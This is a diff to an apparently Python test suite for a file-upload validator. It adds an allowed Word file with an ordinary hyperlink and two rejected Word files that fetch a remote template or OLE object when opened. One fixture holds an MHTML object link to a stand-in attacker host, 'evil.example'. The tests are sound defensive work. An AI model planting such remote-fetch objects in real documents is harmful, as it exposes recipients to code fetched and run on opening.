@@ -93,6 +93,8 @@ def test_owner_uploads_several_files_at_once(owner_request, action, uploads, own
     (files.csv(), "g.csv", "csv"), (files.txt(), "h.txt", "txt"), (files.png(), "i.png", "png"),
     (files.jpeg(), "j.jpg", "jpeg"), (files.jpeg(), "k.jpeg", "jpeg"),
     ("\ufeffName,Enw\nAnwen,Ŵyn\n".encode(), "welsh.csv", "csv"),
+    # A link to a web page is followed only when clicked: allowed, unlike an external template.
+    (files.docx_with_an_external("hyperlink", "https://www.college.police.uk/"), "links.docx", "docx"),
 ])
 def test_every_allowed_type_is_accepted(owner_request, action, uploads, content, name, file_type):
     upload(owner_request, action, [(content, name)], expected_status=302)
@@ -124,6 +126,13 @@ BAD_FILES = [
     pytest.param(files.docm(), "macros.docx",
                  "“macros.docx” contains macros, which are not allowed. Save it without macros and try again",
                  id="office-with-macros"),
+    pytest.param(files.docx_with_an_external("attachedTemplate"), "policy.docx",
+                 "“policy.docx” is set to fetch a template or object from another site when it is opened, which is "
+                 "not allowed. Save it as a new document, or as a PDF, and try again", id="remote-template"),
+    pytest.param(files.docx_with_an_external("oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil"),
+                 "policy.docx",
+                 "“policy.docx” is set to fetch a template or object from another site when it is opened, which is "
+                 "not allowed. Save it as a new document, or as a PDF, and try again", id="remote-ole-object"),
     pytest.param(files.odt_with_macros(), "minutes.odt",
                  "“minutes.odt” contains macros, which are not allowed. Save it without macros and try again",
                  id="opendocument-with-basic-macros"),
